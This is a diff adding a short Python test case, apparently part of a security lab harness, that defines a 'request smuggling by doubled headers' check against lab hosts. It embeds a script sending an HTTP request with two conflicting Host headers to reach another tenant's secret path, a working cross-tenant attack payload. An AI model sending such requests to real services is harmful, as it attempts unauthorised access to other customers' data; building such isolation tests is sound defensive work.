@@ -1,0 +1,15 @@
+"""names two hosts in one request"""
+
+from evidence import other_tenant_asked as succeeded
+
+SHAPE = "request smuggling by doubled headers"
+PROMISE = "P27"
+LAB = True
+WALLS = "network-names"
+OPTIONS = {"hosts": ["tenant-a.rwlab.net:80"]}
+PYTHON = """
+import socket
+with socket.create_connection(("tenant-a.rwlab.net", 80), 10) as line:
+    line.sendall(b"GET /@SECRET@ HTTP/1.1\\r\\nHost: tenant-a.rwlab.net\\r\\nHost: tenant-b.rwlab.net\\r\\n\\r\\n")
+    line.recv(9999)
+"""
